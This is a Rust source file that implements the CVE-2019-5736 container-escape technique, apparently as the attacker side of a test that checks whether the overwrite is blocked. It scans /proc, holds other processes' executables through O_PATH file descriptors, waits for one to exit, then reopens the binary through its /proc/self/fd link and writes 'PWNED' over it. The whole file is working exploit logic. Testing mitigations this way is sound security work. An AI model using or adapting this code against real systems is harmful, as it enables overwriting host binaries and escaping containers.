//! The CVE-2019-5736 attacker: hold a foreign /proc/<pid>/exe, reopen it for writing later.

use std::io::{BufRead, Write};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::fs::MetadataExt;

/// A foreign binary held through an O_PATH fd, and a pidfd telling when its process exits.
struct Held {
    pid: i32,
    exe: OwnedFd,
    pidfd: OwnedFd,
}

/// Runs until one held process exits and the write attempt is reported.
pub fn run(ignore: &[&str]) {
    let mut skip: Vec<(u64, u64)> = std::iter::once("/proc/self/exe")
        .chain(ignore.iter().copied())
        .map(|p| {
            let m = std::fs::metadata(p).unwrap_or_else(|e| panic!("stat {p}: {e}"));
            (m.dev(), m.ino())
        })
        .collect();
    let me = std::process::id() as i32;
    say("ready");
    let mut held: Vec<Held> = Vec::new();
    loop {
        for pid in pids() {
            if pid == me || held.iter().any(|h| h.pid == pid) {
                continue;
            }
            if let Some(h) = hold(pid, &mut skip) {
                let link = std::fs::read_link(format!("/proc/self/fd/{}", h.exe.as_raw_fd()))
                    .unwrap_or_default();
                say(&format!("held {pid} {}", link.display()));
                held.push(h);
            }
        }
        // The scan interval only sets how fast a holder is noticed: the test keeps it alive
        // until it has read `held`.
        if let Some(h) = exited(&held, 5) {
            say(&format!("exited {}", h.pid));
            let mut go = String::new();
            let _ = std::io::stdin().lock().read_line(&mut go);
            say(&overwrite(&h.exe));
            return;
        }
    }
}

fn say(line: &str) {
    let mut out = std::io::stdout().lock();
    let _ = writeln!(out, "{line}");
    let _ = out.flush();
}

fn pids() -> Vec<i32> {
    std::fs::read_dir("/proc")
        .map(|rd| {
            rd.flatten()
                .filter_map(|e| e.file_name().to_str()?.parse().ok())
                .collect()
        })
        .unwrap_or_default()
}

/// Opens the exe of `pid` with O_PATH unless it is unreadable (not dumpable) or skipped.
fn hold(pid: i32, skip: &mut Vec<(u64, u64)>) -> Option<Held> {
    let path = std::ffi::CString::new(format!("/proc/{pid}/exe")).ok()?;
    // SAFETY: `path` is NUL-terminated and outlives the call.
    let fd = unsafe { libc::open(path.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
    if fd < 0 {
        return None;
    }
    // SAFETY: a fresh fd owned here only.
    let exe = unsafe { OwnedFd::from_raw_fd(fd) };
    let m = std::fs::metadata(format!("/proc/self/fd/{fd}")).ok()?;
    if skip.contains(&(m.dev(), m.ino())) {
        return None;
    }
    // SAFETY: pidfd_open takes a pid and flags and returns a new fd or -1.
    let pfd = unsafe { libc::syscall(libc::SYS_pidfd_open, pid, 0) };
    if pfd < 0 {
        return None;
    }
    // One hold per binary: a second process running it adds nothing.
    skip.push((m.dev(), m.ino()));
    // SAFETY: a fresh fd owned here only.
    let pidfd = unsafe { OwnedFd::from_raw_fd(pfd as i32) };
    Some(Held { pid, exe, pidfd })
}

/// The first held process found exited within `ms` milliseconds.
fn exited(held: &[Held], ms: i32) -> Option<&Held> {
    let mut fds: Vec<libc::pollfd> = held
        .iter()
        .map(|h| libc::pollfd {
            fd: h.pidfd.as_raw_fd(),
            events: libc::POLLIN,
            revents: 0,
        })
        .collect();
    // SAFETY: `fds` is a valid array of fds.len() pollfds.
    let n = unsafe { libc::poll(fds.as_mut_ptr(), fds.len() as libc::nfds_t, ms) };
    if n <= 0 {
        return None;
    }
    fds.iter().position(|p| p.revents != 0).map(|i| &held[i])
}

/// Reopens the held binary for writing through the fd's magic link and overwrites its head.
fn overwrite(exe: &OwnedFd) -> String {
    let path = format!("/proc/self/fd/{}", exe.as_raw_fd());
    let f = match std::fs::OpenOptions::new().write(true).open(&path) {
        Ok(f) => f,
        Err(e) => return format!("open-denied {}", errno_name(&e)),
    };
    match std::os::unix::fs::FileExt::write_at(&f, b"PWNED", 0) {
        Ok(_) => "write-ok".into(),
        Err(e) => format!("write-denied {}", errno_name(&e)),
    }
}

fn errno_name(e: &std::io::Error) -> String {
    match e.raw_os_error() {
        Some(libc::EROFS) => "EROFS".into(),
        Some(libc::EPERM) => "EPERM".into(),
        Some(libc::EACCES) => "EACCES".into(),
        Some(libc::ETXTBSY) => "ETXTBSY".into(),
        _ => e.to_string(),
    }
}
